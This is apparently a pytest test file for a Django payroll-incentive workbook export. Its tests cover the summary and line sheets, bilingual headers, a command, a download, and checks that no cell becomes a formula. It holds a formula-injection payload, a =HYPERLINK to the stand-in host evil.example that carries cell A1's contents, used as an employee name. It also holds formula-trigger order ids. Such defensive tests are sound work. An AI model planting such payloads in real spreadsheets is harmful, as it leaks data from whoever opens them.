"""HR's payout workbook: a summary row per statement with its amounts by kind, every line with its
explanation and orders, the definitions; numbers as numbers, no formulas whatever people type,
both languages; the command, the download and LibreOffice opening the file."""

import datetime as dt
import io
import os
import shutil
import subprocess
import zipfile
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from incentives.models import (
    CommissionTier,
    Milestone,
    Modifier,
    Plan,
    PlanAssignment,
    RankingAward,
    Statement,
    StatementState,
)
from incentives.services.export import payouts_export
from incentives.services.statements import statement_approve, statement_lock, statements_refresh
from metrics.importing.services import chats_import, orders_import
from metrics.kpis.services import kpis_after_import
from metrics.models import Target
from teams.selectors.scoping import viewer_get
from tests.metrics.helpers import CHAT_HEADER, ORDER_HEADER, write

pytestmark = pytest.mark.django_db
AUGUST = dt.date(2026, 8, 1)
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
EVIL_ORDERS = ["+123", "-5", "@x"]
D = Decimal


def sell(org, tmp_path, sales: list[tuple[str, str, int, str]], tag: str) -> None:
    """(account key, order id, day of August, amount): a chat at 10:00 and its order paid at 10:21,
    through the importers."""
    chats, orders = [], []
    for n, (key, order_id, day, amount) in enumerate(sales):
        account = getattr(org, f"account_{key}")
        store = account.store.name
        at = dt.datetime(2026, 8, day, 10, 0)
        buyer = f"{tag}-{key}{day}-{n}"
        chats.append(f"S{tag}{n},{store},{account.name},{buyer},{at:%Y-%m-%d %H:%M:%S},"
                     f"{at + dt.timedelta(seconds=15):%Y-%m-%d %H:%M:%S},,2,2")  # fmt: skip
        created = at + dt.timedelta(minutes=20)
        orders.append(f"{order_id},{buyer},{amount},{amount},交易成功,{created:%Y-%m-%d %H:%M:%S},"
                      f"{created + dt.timedelta(minutes=1):%Y-%m-%d %H:%M:%S},连衣裙,1,1,0.00,{store}")  # fmt: skip
    for importer, header, lines in ((chats_import, CHAT_HEADER, chats), (orders_import, ORDER_HEADER, orders)):
        batch = importer(store=None, file=write(tmp_path / f"{tag}{header[:2]}.csv", [header, *lines]), user=None)
        assert batch.status == "succeeded", (batch.error_message, list(batch.row_errors.values_list("reason")))
        kpis_after_import(batch=batch)


def cs_plan(org) -> Plan:
    """The demo's customer-service plan, for teams X, Y and Z."""
    plan = Plan.objects.create(
        name="客服标准方案", base_salary=D(4000), performance_pay=D(2000),
        grade_coefficients={"S": 1.5, "A": 1.2, "B": 1.0, "C": 0.8, "D": 0.5}, commission_mode="tiered",
        tier_mode="marginal", pk_kpi_key="gmv", pk_bonus_rate=D("0.05"),
    )  # fmt: skip
    for start, rate in (("0", "0.015"), ("1.0", "0.025"), ("1.5", "0.03")):
        CommissionTier.objects.create(plan=plan, from_completion=D(start), rate=D(rate))
    Modifier.objects.create(plan=plan, kpi_key="refund_order_rate", comparison="gt", threshold=D("0.25"),
                            multiplier=D("0.8"))  # fmt: skip
    Modifier.objects.create(plan=plan, kpi_key="inquiry_to_payment_rate", comparison="ge", threshold=D("0.4"),
                            multiplier=D("1.1"))  # fmt: skip
    Milestone.objects.create(plan=plan, kpi_key="inquiry_to_payment_rate", comparison="ge", threshold=D("0.1"),
                             amount=D(500))  # fmt: skip
    RankingAward.objects.create(plan=plan, kpi_key="gmv", amounts=[800, 500, 300])
    for team in (org.x, org.y, org.z):
        PlanAssignment.objects.create(plan=plan, team=team, start_date=dt.date(2026, 1, 1))
    return plan


@pytest.fixture
def payouts(org, tmp_path):
    """August in store 1: A (a name made to be a formula) sells orders "+123", "-5" and "@x" of
    1,000 each, B one of 1,000; targets of 2,000. A's statement is approved, then a late order
    makes a proposed adjustment; B's is approved and locked; the others stay drafts. Store 2:
    D's base salary only."""
    org.a.display_name, org.a.employee_number = EVIL_NAME, "+E1001"
    org.a.save()
    sell(org, tmp_path, [("a", EVIL_ORDERS[0], 3, "1000.00"), ("a", EVIL_ORDERS[1], 4, "1000.00"),
                         ("a", EVIL_ORDERS[2], 5, "1000.00"), ("b", "O-b1", 4, "1000.00")], tag="one")  # fmt: skip
    for member in (org.a, org.b):
        Target.objects.create(tier="execution", name="8月销售额", kpi_key="gmv", store=org.s1, team=org.x,
                              member=member, period_kind="month", start=AUGUST, end=dt.date(2026, 8, 31),
                              value=D(2000), direction="at_least")  # fmt: skip
    cs_plan(org)
    statements_refresh(store=org.s1, month=AUGUST)
    statements_refresh(store=org.s2, month=AUGUST)
    manager, hr = viewer_get(user=org.users["manager_s1"]), viewer_get(user=org.users["hr"])
    statement_approve(viewer=manager, user=org.users["manager_s1"], statement=Statement.objects.get(member=org.a))
    sell(org, tmp_path, [("a", "O-late", 6, "1000.00")], tag="two")
    statements_refresh(store=org.s1, month=AUGUST)
    b = statement_approve(viewer=manager, user=org.users["manager_s1"], statement=Statement.objects.get(member=org.b))
    statement_lock(viewer=hr, user=org.users["hr"], statement=b)
    return org


def in_chinese(message: str) -> str:
    with translation.override("zh-hans"):
        return gettext(message)


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def table(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def records(ws) -> list[dict]:
    rows = table(ws)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


SUMMARY_HEADER = ["Employee number", "Name", "Store", "Team", "State", "Plan", "Base salary", "Performance pay",
                  "Call assessment", "Commission", "KPI multiplier", "Team PK", "Milestone bonus", "Ranking award", "Allowance",
                  "Clawback", "Award", "One-off allowance", "Deduction", "Correction", "Total pay",
                  "Proposed adjustment"]  # fmt: skip
COMPUTED = SUMMARY_HEADER[6:16]  # the computed kinds' columns, then the manual kinds' (none in this month)


def test_a_summary_row_per_statement_with_amounts_by_kind_total_and_adjustment(payouts):
    org = payouts
    book = workbook(payouts_export(month=AUGUST, lang="en"))
    assert book.sheetnames == ["Summary", "Lines", "Definitions"]
    assert table(book["Summary"])[0] == SUMMARY_HEADER
    rows = records(book["Summary"])
    # By store, team and name: store 1's team X (A, B, the lead), then Y (C); then store 2's Z (D).
    assert [(r["Store"], r["Team"], r["Name"]) for r in rows] == [
        ("Mirror Home Store", "Z", "Dan 刘"),
        ("未来衣橱旗舰店", "售前X", EVIL_NAME), ("未来衣橱旗舰店", "售前X", "Bob 李"),
        ("未来衣橱旗舰店", "售前X", "Lead 赵"), ("未来衣橱旗舰店", "售后Y", "Carol 张"),
    ]  # fmt: skip
    a, b, lead = rows[1], rows[2], rows[3]
    assert a["Employee number"] == "+E1001" and a["Plan"] == "客服标准方案 (version 1)"
    assert a["State"] == "Approved by the manager" and b["State"] == "Locked by HR" and lead["State"] == "Draft"
    # A at 150% of 2,000: 2,000 × 1.5% + 1,000 × 2.5% = 55; conversion 100% ≥ 40%: +10% = 5.50; the team won
    # the week of 3 August: +5% of that week's commission, 3,000 × (60.50 / 3,000) × 5% = 3.025 → 3.03;
    # milestone 500; first in the team: 800. No appraisal: 0.
    # No call assessment in this plan: an empty cell, not 0.
    assert [a[h] for h in [*COMPUTED, "Total pay"]] == [4000, 0, None, 55, 5.5, 3.03, 500, 800, None, None, 5363.53]
    assert [a[h] for h in SUMMARY_HEADER[16:20]] == [None] * 4  # no manual line: empty cells
    # The late order, after approval: 4,000 at 200% → commission 85, +8.50, PK 4,000 × (93.50 / 4,000) × 5%
    # = 4.675 → 4.68: 5,398.18, that is 34.65 more.
    assert a["Proposed adjustment"] == 34.65
    # B: 1,000 × 1.5% = 15, +1.50, PK 1,000 × (16.50 / 1,000) × 5% = 0.825 → 0.83, 500, second: 500.
    assert [b[h] for h in [*COMPUTED, "Total pay", "Proposed adjustment"]] == [
        4000, 0, None, 15, 1.5, 0.83, 500, 500, None, None, 5017.33, None]  # fmt: skip
    assert [lead[h] for h in ("Base salary", "Commission", "Ranking award", "Total pay")] == [4000, 0, None, 4000]
    for row in rows:
        statement = Statement.objects.get(member__display_name=row["Name"])
        assert D(str(row["Total pay"])) == statement.total
    ws = book["Summary"]
    assert ws.cell(3, SUMMARY_HEADER.index("Total pay") + 1).number_format == "#,##0.00"
    assert ws.cell(3, SUMMARY_HEADER.index("Commission") + 1).number_format == "#,##0.00"
    one_store = records(workbook(payouts_export(month=AUGUST, store=org.s2, lang="en"))["Summary"])
    assert [r["Name"] for r in one_store] == ["Dan 刘"]


def test_every_line_with_its_explanation_and_orders(payouts):
    book = workbook(payouts_export(month=AUGUST, lang="en"))
    header = table(book["Lines"])[0]
    assert header == ["Employee number", "Name", "Store", "Team", "State", "No.", "Kind", "Amount", "Explanation",
                      "KPI", "KPI value", "Order ids", "Deals", "Reason", "Added by"]  # fmt: skip
    rows = records(book["Lines"])
    assert len(rows) == sum(s.lines.count() for s in Statement.objects.all())
    a = [r for r in rows if r["Name"] == EVIL_NAME]
    assert [r["No."] for r in a] == list(range(1, len(a) + 1))
    assert [r["Kind"] for r in a] == ["Base salary", "Performance pay", "Commission", "KPI multiplier", "Team PK",
                                      "Milestone bonus", "Ranking award"]  # fmt: skip
    commission = a[2]
    assert commission["Amount"] == 55 and commission["Order ids"] == "+123;-5;@x"
    assert "3,000.00" in commission["Explanation"] or "3000.00" in commission["Explanation"]
    assert commission["KPI"] == "GMV"
    assert a[4]["Order ids"] == "+123;-5;@x" and "08-03" in a[4]["Explanation"]
    assert a[3]["KPI"] == "Inquiry-to-payment rate" and a[3]["KPI value"]
    assert a[0]["Order ids"] is None or a[0]["Order ids"] == ""
    assert {r["State"] for r in rows if r["Name"] == "Bob 李"} == {"Locked by HR"}


def test_no_cell_becomes_a_formula(payouts):
    content = payouts_export(month=AUGUST, lang="en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    texts = {}
    for ws in workbook(content).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    for text in (EVIL_NAME, "+E1001", "+123;-5;@x"):
        assert texts[text].data_type == "s"
        assert texts[text].quotePrefix  # Excel keeps it text even when the cell is edited
    assert not texts["Bob 李"].quotePrefix


def test_each_formula_like_order_id_alone_stays_text(org, tmp_path):
    """A clawback line names one order: each of "+123", "-5", "@x" on its own."""
    sell(org, tmp_path, [("a", ref, 3 + n, "100.00") for n, ref in enumerate(EVIL_ORDERS)], tag="solo")
    plan = Plan.objects.create(name="Flat", commission_mode="flat", flat_rate=D("0.1"))
    PlanAssignment.objects.create(plan=plan, member=org.a, start_date=dt.date(2026, 1, 1))
    statements_refresh(store=org.s1, month=AUGUST)
    statement = Statement.objects.get(member=org.a)
    for n, ref in enumerate(EVIL_ORDERS):  # one line per order, as a clawback is
        statement.lines.create(order=10 + n, kind="clawback", amount=D("-1.00"), explanation=f"{ref} refunded",
                               order_ids=[ref])  # fmt: skip
    ws = workbook(payouts_export(month=AUGUST, lang="en"))["Lines"]
    cells = {row[11].value: row[11] for row in ws.iter_rows(min_row=2) if row[6].value == "Clawback"}
    assert set(cells) == set(EVIL_ORDERS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())
    summary = records(workbook(payouts_export(month=AUGUST, lang="en"))["Summary"])
    assert next(r for r in summary if r["Name"] == "Alice 王")["Clawback"] == -3


def test_definitions_give_line_kinds_states_and_the_plans_rules(payouts):
    rows = table(workbook(payouts_export(month=AUGUST, lang="en"))["Definitions"])
    assert rows[0][:3] == ["Kind", "Key", "Definition"]
    kinds = {r[1]: r for r in rows[1:10]}
    assert set(kinds) == {"base", "performance", "commission", "modifier", "pk", "milestone", "ranking", "calls",
                          "clawback"}  # fmt: skip
    assert kinds["clawback"][0] == "Clawback" and "refunded" in kinds["clawback"][2]
    start = rows.index(["State", "Key", "Definition", *[None] * (len(rows[0]) - 3)])
    assert [r[1] for r in rows[start + 1 : start + 4]] == ["draft", "approved", "locked"]
    plan = next(r for r in rows if r[0] == "客服标准方案 (version 1)")
    assert plan[2:4] == [4000, 2000] and plan[4] == "S ×1.5, A ×1.2, B ×1.0, C ×0.8, D ×0.5"
    assert plan[5] == "Marginal: each tier's rate on its part: ≥ 0% → 1.5%; ≥ 100% → 2.5%; ≥ 150% → 3%"
    assert plan[6] == "Refunded order rate > 25% → ×0.8; Inquiry-to-payment rate ≥ 40% → ×1.1"
    assert plan[7] == "GMV +5%" and plan[8] == "Inquiry-to-payment rate ≥ 10% → 500.00"
    assert plan[9] == "GMV: 800, 500, 300"
    assert plan[10:13] == ["General", None, "Credited shop GMV, net of refunds"]  # kind, call assessment, base
    assert plan[13:] == [None]  # no recurring allowance


def test_headers_in_chinese_and_in_english(payouts):
    zh = workbook(payouts_export(month=AUGUST, lang="zh-hans"))
    en = workbook(payouts_export(month=AUGUST, lang="en"))
    assert zh.sheetnames == [in_chinese("Summary"), in_chinese("Lines"), in_chinese("Definitions")]
    assert table(zh.worksheets[0])[0][:4] == ["工号", "姓名", "店铺", "团队"]
    assert len(table(zh.worksheets[0])[0]) == len(table(en.worksheets[0])[0])
    with translation.override("zh-hans"):
        state = str(StatementState.LOCKED.label)
    assert state in {r[4] for r in table(zh.worksheets[0])[1:]}


def test_an_export_of_a_month_without_statements_is_a_valid_empty_workbook(db):
    book = workbook(payouts_export(month=dt.date(2030, 1, 1), lang="en"))
    assert book.sheetnames == ["Summary", "Lines", "Definitions"]
    assert len(table(book["Summary"])) == 1 and len(table(book["Lines"])) == 1
    assert "locked" in [r[1] for r in table(book["Definitions"])]


def test_the_command_writes_the_workbook_and_says_what_is_wrong(payouts, tmp_path, capsys):
    out = tmp_path / "pay.xlsx"
    call_command("export_payouts", "--month", "2026-08", "--store", payouts.s1.name, "--lang", "en",
                 "--out", str(out))  # fmt: skip
    said = capsys.readouterr().out
    assert "4 statements (2 draft, 1 approved, 1 locked)" in said and "2026-08, en" in said
    assert len(records(workbook(out.read_bytes())["Summary"])) == 4
    call_command("export_payouts", "--month", "2026-08", "--out", str(out))
    assert workbook(out.read_bytes()).sheetnames[0] == in_chinese("Summary")  # Chinese by default
    for args, message in (
        (["--month", "2026-13"], "YYYY-MM"),
        (["--month", "Aug"], "YYYY-MM"),
        (["--month", "2026-08", "--store", "No such shop"], "Unknown store 'No such shop'. Stores: Mirror Home"),
        (["--month", "2026-07"], "No payout statements for 2026-07"),
    ):
        with pytest.raises(CommandError, match=message):
            call_command("export_payouts", *args, "--out", str(tmp_path / "x.xlsx"))
    with pytest.raises(CommandError, match="does not exist"):
        call_command("export_payouts", "--month", "2026-08", "--out", str(tmp_path / "nowhere" / "x.xlsx"))
    with pytest.raises(CommandError, match=r"\.xlsx"):
        call_command("export_payouts", "--month", "2026-08", "--out", str(tmp_path / "x.csv"))


@pytest.fixture
def libreoffice() -> str:
    """The LibreOffice binary; skipped without one unless CI requires it."""
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    if binary is None:
        if os.environ.get("PERFMGMT_REQUIRE_LIBREOFFICE") == "1":
            pytest.fail("PERFMGMT_REQUIRE_LIBREOFFICE=1 but libreoffice is not on PATH")
        pytest.skip("libreoffice is not installed (CI installs it and sets PERFMGMT_REQUIRE_LIBREOFFICE=1)")
    return binary


def test_libreoffice_opens_the_workbook_and_prints_it(libreoffice, payouts, tmp_path):
    source = tmp_path / "payouts.xlsx"
    source.write_bytes(payouts_export(month=AUGUST, lang="zh-hans"))
    out, home = tmp_path / "pdf", tmp_path / "home"
    home.mkdir()
    done = subprocess.run(
        [libreoffice, "--headless", "--norestore", "--convert-to", "pdf", "--outdir", str(out), str(source)],
        capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(home)}, check=False,
    )  # fmt: skip
    pdf = out / "payouts.pdf"
    assert done.returncode == 0 and pdf.exists(), (done.stdout, done.stderr)
    assert pdf.stat().st_size > 1000 and pdf.read_bytes().startswith(b"%PDF")


# --- the download ------------------------------------------------------------------------------


@pytest.fixture
def export_url() -> str:
    return reverse("incentives:export")


@pytest.fixture
def statements(org):
    cs_plan(org)
    for store in (org.s1, org.s2):
        statements_refresh(store=store, month=AUGUST)
    return org


def download(client_for, user, url, **params):
    return client_for(user).get(url, {"month": "2026-08", **params})


def test_hr_and_admins_download_every_store_managers_their_own(statements, client_for, export_url):
    org = statements
    for name in ("hr", "admin"):
        response = download(client_for, org.users[name], export_url, lang="en")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert "attachment" in response["Content-Disposition"] and "payouts-2026-08" in response["Content-Disposition"]
        assert len(records(workbook(response.content)["Summary"])) == 5
    one_store = download(client_for, org.users["hr"], export_url, store=org.s2.pk, lang="en")
    assert [r["Name"] for r in records(workbook(one_store.content)["Summary"])] == ["Dan 刘"]
    for params in ({}, {"store": org.s1.pk}):  # a manager: their store, asked for or not
        response = download(client_for, org.users["manager_s1"], export_url, lang="en", **params)
        assert response.status_code == 200
        assert {r["Store"] for r in records(workbook(response.content)["Summary"])} == {org.s1.name}
    # Another store is outside the manager's scope: not found, as a store that does not exist.
    assert download(client_for, org.users["manager_s1"], export_url, store=org.s2.pk).status_code == 404
    assert download(client_for, org.users["manager_s1"], export_url, store=987654).status_code == 404
    assert download(client_for, org.users["hr"], export_url, store=987654).status_code == 404
    zh = download(client_for, org.users["hr"], export_url, lang="zh-hans")
    assert workbook(zh.content).sheetnames[0] == in_chinese("Summary")


def test_everyone_else_is_refused_and_a_bad_month_is_a_bad_request(statements, client_for, export_url):
    org = statements
    for name in ("staff_a", "lead_x", "nobody"):
        assert download(client_for, org.users[name], export_url).status_code == 403
    assert download(client_for, org.users["hr"], export_url, month="2026-8x").status_code == 400
    assert download(client_for, org.users["hr"], export_url, store="abc").status_code == 400
    anonymous = client_for(org.users["hr"])
    anonymous.logout()
    assert anonymous.get(export_url, {"month": "2026-08"}).status_code == 302  # to the login page
